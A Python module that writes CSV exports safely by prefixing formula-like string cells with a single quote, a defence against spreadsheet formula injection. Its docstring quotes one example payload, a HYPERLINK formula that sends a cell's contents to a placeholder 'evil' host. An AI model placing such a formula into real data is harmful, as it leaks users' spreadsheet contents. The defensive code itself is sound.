"""The one CSV writer of every CSV we serve (exports, the review export): it defuses
formula injection.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or
a tab or carriage return, which some strip first) as a formula: a run's error message
``=HYPERLINK("http://evil/?"&A1, "open")`` would become a live link that leaks the sheet.
As OWASP recommends, such a string cell is written with a leading single quote, which
spreadsheets show as text and do not evaluate.

Only strings are escaped: numbers (an index, a duration, token counts) are written by us
from integers, and a negative number must stay a number. So ``-1`` the integer is
``-1`` while ``"-1+1"`` the string (anything a producer or a user typed) is ``'-1+1``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Text(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell(value: Any) -> Any:
    """``value`` as a safe CSV cell: a string that a spreadsheet would evaluate gets a
    leading ``'``; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class Writer:
    """``csv.writer`` over ``out`` whose rows go through ``cell``."""

    def __init__(self, out: _Text) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])
